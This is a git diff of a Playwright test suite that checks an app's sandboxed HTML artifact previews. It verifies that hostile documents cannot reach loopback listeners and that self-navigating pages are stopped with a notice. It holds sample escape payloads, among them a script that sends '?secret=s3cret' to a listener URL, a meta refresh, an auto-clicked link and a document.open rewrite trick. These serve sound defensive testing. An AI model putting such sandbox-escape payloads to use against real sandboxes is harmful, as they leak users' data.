@@ -1,44 +1,87 @@
 /**
- * Hostile previews: artifacts written to get their requests out of the sandbox, each previewed while a loopback
- * listener records every HTTP request and connection that reaches it. No request may arrive; a page that tries
- * to navigate away is replaced by a notice saying where it tried to go.
+ * Hostile previews: artifacts written to get their requests out of the sandbox, previewed while loopback listeners
+ * record every HTTP request and connection that reaches them. No request may arrive; a page that tries to navigate
+ * away is replaced by a notice saying where it tried to go.
  */
-import { createServer, type Server } from "node:http";
+import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
-import { expect, type Page, test } from "@playwright/test";
+import { expect, type Frame, type Page, test } from "@playwright/test";
 import { fence, openSession } from "./helpers";
 
-let listener: Server;
-let base = "";
-const requests: string[] = [];
-/** TCP connections, requests or not: a preconnect would show here. */
-let connections = 0;
+/** A loopback listener: every request that reaches it, and every TCP connection, request or not. */
+interface Listener {
+  base: string;
+  requests: string[];
+  /** A preconnect would show here. */
+  connections: number;
+  close(): Promise<void>;
+}
 
-test.beforeAll(async () => {
-  listener = createServer((request, response) => {
-    requests.push(`${request.method} ${request.url}`);
+async function listen(): Promise<Listener> {
+  const server = createServer((request, response) => {
+    listener.requests.push(`${request.method} ${request.url}`);
     response.setHeader("access-control-allow-origin", "*");
     response.end("leaked");
   });
-  listener.on("connection", () => {
-    connections++;
+  server.on("connection", () => {
+    listener.connections++;
   });
-  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
-  base = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const listener: Listener = {
+    base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    requests: [],
+    connections: 0,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+  return listener;
+}
+
+/** What documents that must not even connect call. */
+let quiet: Listener;
+/** What documents that start a navigation call: a navigation may open a connection before it is refused. */
+let navigating: Listener;
+
+test.beforeAll(async () => {
+  [quiet, navigating] = await Promise.all([listen(), listen()]);
 });
 
-test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
+test.afterAll(() => Promise.all([quiet.close(), navigating.close()]));
 
-/** Imports one HTML artifact into a new session, previews it, and gives the requests the listener saw. */
-async function preview(page: Page, name: string, html: string) {
+/** Imports HTML artifacts, `[title, document]` each, as one answer into a new session open in `page`. */
+async function importDocuments(page: Page, documents: readonly (readonly [string, string, ...unknown[]])[]) {
   const path = await openSession(page);
+  const content = documents
+    .map(([name, html]) => `${fence}html title="${name}"\n${html}\n${fence}\n`)
+    .join("\n");
   const response = await page.request.post(`/api/sessions${path.slice(2)}/messages`, {
-    data: { role: "assistant", content: `${fence}html title="${name}"\n${html}\n${fence}\n` },
+    data: { role: "assistant", content },
   });
   expect(response.status()).toBe(201);
+}
+
+/** Imports one HTML artifact into a new session and previews it; gives its card. */
+async function preview(page: Page, name: string, html: string) {
+  await importDocuments(page, [[name, html]]);
   const card = page.getByRole("article", { name });
   await card.getByRole("button", { name: "Preview" }).click();
   return card;
+}
+
+/** The frame a preview's page runs in, once that page is written into it (the bootstrap that waits for it gone). */
+async function writtenFrame(page: Page, name: string): Promise<Frame> {
+  const frame = await page
+    .getByTitle(`Preview: ${name}`)
+    .elementHandle()
+    .then((element) => element?.contentFrame());
+  if (!frame) throw new Error(`no frame for ${name}`);
+  await expect
+    .poll(() =>
+      frame
+        .evaluate(() => document.querySelector('script[src$="/preview/frame.js"]') === null)
+        .catch(() => false),
+    )
+    .toBe(true);
+  return frame;
 }
 
 /** Every way out we know of, each in a document shaped to slip past a policy spliced into its text. */
@@ -103,51 +146,68 @@ const attempts = (url: string): [string, string, navigates?: boolean][] => [
 ];
 
 test("no hostile document gets a request out of its preview", async ({ page }) => {
-  // A dozen documents, each given time to try: longer than one test's default.
-  test.setTimeout(90_000);
-  for (const [name, html, navigates = false] of attempts(base)) {
-    requests.length = 0;
-    connections = 0;
-    const card = await preview(page, name, html);
-    const frame = card.getByTitle(`Preview: ${name}`);
-    await expect(frame).toBeVisible();
-    // Give every request the document could make time to arrive, then look: nothing may have.
-    await page.waitForTimeout(750);
-    expect(requests, name).toEqual([]);
-    // Navigations may open a connection before they are refused (docs/SECURITY.md); nothing else may.
-    if (!navigates) expect(connections, `${name}: connections`).toBe(0);
-  }
+  const documents = [
+    ...attempts(quiet.base).filter(([, , navigates]) => !navigates),
+    ...attempts(navigating.base).filter(([, , navigates]) => navigates),
+  ];
+  // Every document previews at once: one session, every card's preview opened (an open card stays drawn).
+  await importDocuments(page, documents);
+  const feed = page.getByRole("feed", { name: "Artifact cards" });
+  for (const _ of documents)
+    await feed.getByRole("button", { name: "Preview", pressed: false }).first().click();
+  for (const [name] of documents) await writtenFrame(page, name);
+  // Give every request the documents could make time to arrive, then look: nothing may have.
+  await page.waitForTimeout(750);
+  expect([...quiet.requests, ...navigating.requests]).toEqual([]);
+  // Navigations may open a connection before they are refused (docs/SECURITY.md); nothing else may.
+  expect(quiet.connections).toBe(0);
 });
 
 test("a preview that navigates itself away is stopped and replaced by a notice saying where it tried to go", async ({
   page,
 }) => {
   const navigations: [string, string][] = [
-    ["location assignment", `<script>location = "${base}/location?secret=s3cret"</script>`],
-    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${base}/refresh">`],
+    ["location assignment", `<script>location = "${navigating.base}/location?secret=s3cret"</script>`],
+    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${navigating.base}/refresh">`],
     [
       "a link clicked",
-      `<a id="go" href="${base}/link">go</a><script>document.getElementById("go").click()</script>`,
+      `<a id="go" href="${navigating.base}/link">go</a><script>document.getElementById("go").click()</script>`,
     ],
     // Replacing its own document drops the frame's guard; the app's frame-src still stops the navigation.
     [
       "document.open first",
-      `<script>document.open(); document.write('<script>location = "${base}/after-open"<\\/script>'); document.close();</script>`,
+      `<script>document.open(); document.write('<script>location = "${navigating.base}/after-open"<\\/script>'); document.close();</script>`,
     ],
     ["back to the app", `<script>location = "/"</script>`],
   ];
-  for (const [name, html] of navigations) {
-    requests.length = 0;
-    const card = await preview(page, name, html);
+  // One session holds them all; each is previewed in turn, once the one before has been stopped.
+  await importDocuments(page, navigations);
+  for (const [name] of navigations) {
+    navigating.requests.length = 0;
+    const card = page.getByRole("article", { name });
+    await card.getByRole("button", { name: "Preview" }).click();
     const notice = card.getByRole("alert").filter({ hasText: "This preview tried to leave its page" });
     await expect(notice, name).toBeVisible();
-    if (name !== "back to the app") await expect(notice).toContainText(base);
-    expect(requests, name).toEqual([]);
+    if (name !== "back to the app") await expect(notice).toContainText(navigating.base);
+    expect(navigating.requests, name).toEqual([]);
     // It can be run again, and is stopped again.
     await notice.getByRole("button", { name: "Run again" }).click();
     await expect(card.getByRole("alert").filter({ hasText: "tried to leave" })).toBeVisible();
   }
 });
+
+/**
+ * Marks the page in a preview's frame: `stayed` tells whether that page is still the one there (a page that left,
+ * even for a refused navigation, is replaced, and only an unloading page tells the app it left).
+ */
+async function markPage(frame: Frame) {
+  await frame.evaluate(() => {
+    (window as unknown as Record<string, unknown>).folioMark = true;
+  });
+  return {
+    stayed: () => frame.evaluate(() => (window as unknown as Record<string, unknown>).folioMark === true),
+  };
+}
 
 test("an ordinary preview is not mistaken for one that left", async ({ page }) => {
   const card = await preview(
@@ -155,10 +215,13 @@ test("an ordinary preview is not mistaken for one that left", async ({ page }) =
     "anchors.html",
     `<!doctype html><html><body><a href="#below">down</a><h1 id="below">Below</h1><script>location.hash = "below"</script></body></html>`,
   );
-  const frame = card.getByTitle("Preview: anchors.html").contentFrame();
+  const frame = await writtenFrame(page, "anchors.html");
   await expect(frame.getByRole("heading", { name: "Below" })).toBeVisible();
+  const page_ = await markPage(frame);
   await frame.getByRole("link", { name: "down" }).click();
-  await page.waitForTimeout(500);
+  // The same page, at its anchor: it never unloaded, so nothing could tell the app it left.
+  expect(await frame.evaluate(() => location.hash)).toBe("#below");
+  expect(await page_.stayed()).toBe(true);
   await expect(card.getByRole("alert")).toHaveCount(0);
 });
 
@@ -170,9 +233,16 @@ test("a page that rewrites itself with document.write is not mistaken for one th
     "rewrite.html",
     `<!doctype html><html><body><button onclick="document.write('<h1>Rewritten</h1>'); document.close()">Rewrite</button></body></html>`,
   );
-  const frame = card.getByTitle("Preview: rewrite.html").contentFrame();
+  const frame = await writtenFrame(page, "rewrite.html");
+  const page_ = await markPage(frame);
+  // The frame loads again once the page is rewritten; the app hears of that load before this listener does.
+  const element = card.getByTitle("Preview: rewrite.html");
+  await element.evaluate((iframe) => {
+    iframe.addEventListener("load", () => iframe.setAttribute("data-loaded-again", ""), { once: true });
+  });
   await frame.getByRole("button", { name: "Rewrite" }).click();
   await expect(frame.getByRole("heading", { name: "Rewritten" })).toBeVisible();
-  await page.waitForTimeout(500);
+  await expect(element).toHaveAttribute("data-loaded-again");
+  expect(await page_.stayed()).toBe(true);
   await expect(card.getByRole("alert")).toHaveCount(0);
 });
